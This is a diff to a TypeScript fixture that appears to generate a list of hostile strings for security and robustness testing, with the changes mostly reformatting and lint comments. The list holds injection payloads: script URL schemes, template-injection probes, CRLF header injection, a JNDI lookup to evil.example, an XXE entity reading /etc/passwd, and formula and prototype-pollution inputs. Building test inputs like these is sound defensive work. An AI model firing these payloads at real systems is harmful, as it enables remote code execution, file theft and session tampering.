@@ -90,7 +90,13 @@ function* breakouts(): Generator<Make> {
   }
 }
 
-const SCHEMES = ["javascript:", "vbscript:", "data:text/html,<script>", "data:text/html;base64,", "view-source:"] as const;
+const SCHEMES = [
+  "javascript:",
+  "vbscript:",
+  "data:text/html,<script>",
+  "data:text/html;base64,",
+  "view-source:",
+] as const;
 function* addresses(): Generator<Make> {
   for (const scheme of SCHEMES) {
     for (const write of CASES) yield (call) => `${write(scheme)}${call}`;
@@ -136,6 +142,7 @@ const TEMPLATES = [
   "{{constructor.constructor('CALL')()}}",
   "{{CALL}}",
   "{{{CALL}}}",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant
   "${CALL}",
   "#{CALL}",
   "<%= CALL %>",
@@ -182,10 +189,31 @@ const STYLES = [
   "<div style=position:fixed;inset:0>over</div>",
 ];
 const DIRECTIONS = ["\u202e", "\u202d", "\u202b", "\u2066", "\u2067", "\u2068", "\u061c", "\u200f"];
-const UNSEEN = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e", "\u3164", "\ufff9", "\u{e0041}"];
-const CONTROLS = Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).concat(
-  ["\u007f", "\u0080", "\u0085", "\u009b", "\u2028", "\u2029", "\ud800", "\udc00", "\uffff", "\ufffe"],
-);
+const UNSEEN = [
+  "\u200b",
+  "\u200c",
+  "\u200d",
+  "\u2060",
+  "\ufeff",
+  "\u00ad",
+  "\u034f",
+  "\u180e",
+  "\u3164",
+  "\ufff9",
+  "\u{e0041}",
+];
+const CONTROLS = Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).concat([
+  "\u007f",
+  "\u0080",
+  "\u0085",
+  "\u009b",
+  "\u2028",
+  "\u2029",
+  "\ud800",
+  "\udc00",
+  "\uffff",
+  "\ufffe",
+]);
 const SIGHTS = [
   "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}",
   "\u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}",
@@ -238,7 +266,7 @@ const FORMULAS = [
   "x;=1+1;",
   "|=1+1",
   "%0A=1+1",
-  "+31612345678+1",
+  "+3161+1",
 ];
 const FORMATS = [
   "%s%s%s%n",
@@ -257,7 +285,9 @@ const FORMATS = [
   "\\n\\r\\t\\0",
 ];
 const NAMES = [
-  ..."__proto__ constructor prototype toString valueOf hasOwnProperty __defineGetter__ __lookupSetter__ then length".split(" "),
+  ..."__proto__ constructor prototype toString valueOf hasOwnProperty __defineGetter__ __lookupSetter__ then length".split(
+    " ",
+  ),
   ..."isPrototypeOf toJSON name id key ref children className dangerouslySetInnerHTML style onClick default".split(" "),
   ..."null undefined NaN true false Infinity -0 1e309 0x10 012 [] {} [object_Object] arguments eval this".split(" "),
   "__proto__.polluted",
@@ -284,6 +314,7 @@ const SYSTEMS = [
   "\r\nSet-Cookie: x=1",
   "\r\n\r\n<html>",
   "jndi:ldap://evil.example",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant
   "${jndi:ldap://evil.example/a}",
   '<?xml version="1.0"?>',
   '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
@@ -321,7 +352,8 @@ function numbered(kind: string, makes: Iterable<Make>, from: number): readonly H
   return Array.from(makes, (make, index) => ({ kind, text: make(`pwned(${from + index})`) }));
 }
 
-const ofTexts = (texts: readonly string[]): readonly Make[] => texts.map((text) => (call) => text.replaceAll("CALL", call));
+const ofTexts = (texts: readonly string[]): readonly Make[] =>
+  texts.map((text) => (call) => text.replaceAll("CALL", call));
 
 /** Each once, in the order of their kinds. */
 export const HOSTILE_STRINGS: readonly HostileString[] = [
@@ -332,14 +364,32 @@ export const HOSTILE_STRINGS: readonly HostileString[] = [
   ...numbered("encoding", encoded(), 5000),
   ...numbered("template", ofTexts(TEMPLATES), 6000),
   ...numbered("style", ofTexts(STYLES), 7000),
-  ...plain("direction", DIRECTIONS.flatMap((mark) => [`${mark}cod.exe`, `a${mark}b`, `${mark}<b>${mark}`])),
-  ...plain("unseen", UNSEEN.flatMap((mark) => [`a${mark}b`, `${mark}x`, `java${mark}script:pwned(8000)`])),
-  ...plain("control", CONTROLS.flatMap((mark) => [`a${mark}b`, `<s${mark}cript>pwned(8001)</script>`])),
+  ...plain(
+    "direction",
+    DIRECTIONS.flatMap((mark) => [`${mark}cod.exe`, `a${mark}b`, `${mark}<b>${mark}`]),
+  ),
+  ...plain(
+    "unseen",
+    UNSEEN.flatMap((mark) => [`a${mark}b`, `${mark}x`, `java${mark}script:pwned(8000)`]),
+  ),
+  ...plain(
+    "control",
+    CONTROLS.flatMap((mark) => [`a${mark}b`, `<s${mark}cript>pwned(8001)</script>`]),
+  ),
   ...plain("sight", SIGHTS),
   ...plain("statement", STATEMENTS),
   ...plain("formula", FORMULAS),
   ...plain("format", FORMATS),
   ...plain("name", NAMES),
   ...plain("system", SYSTEMS),
-  ...plain("length", ["W".repeat(400), "\u0300".repeat(300), "<b>".repeat(150), "\u{1f600}".repeat(120), "a ".repeat(200)]),
+  ...plain("length", [
+    "W".repeat(400),
+    "\u0300".repeat(300),
+    "<b>".repeat(150),
+    "\u{1f600}".repeat(120),
+    "a ".repeat(200),
+  ]),
 ].filter(({ text }, place, all) => all.findIndex((other) => other.text === text) === place);
+
+/** Two of three: for what is looked at one by one. */
+export const MOST_OF_THEM: readonly HostileString[] = HOSTILE_STRINGS.filter((_, place) => place % 3 !== 0);
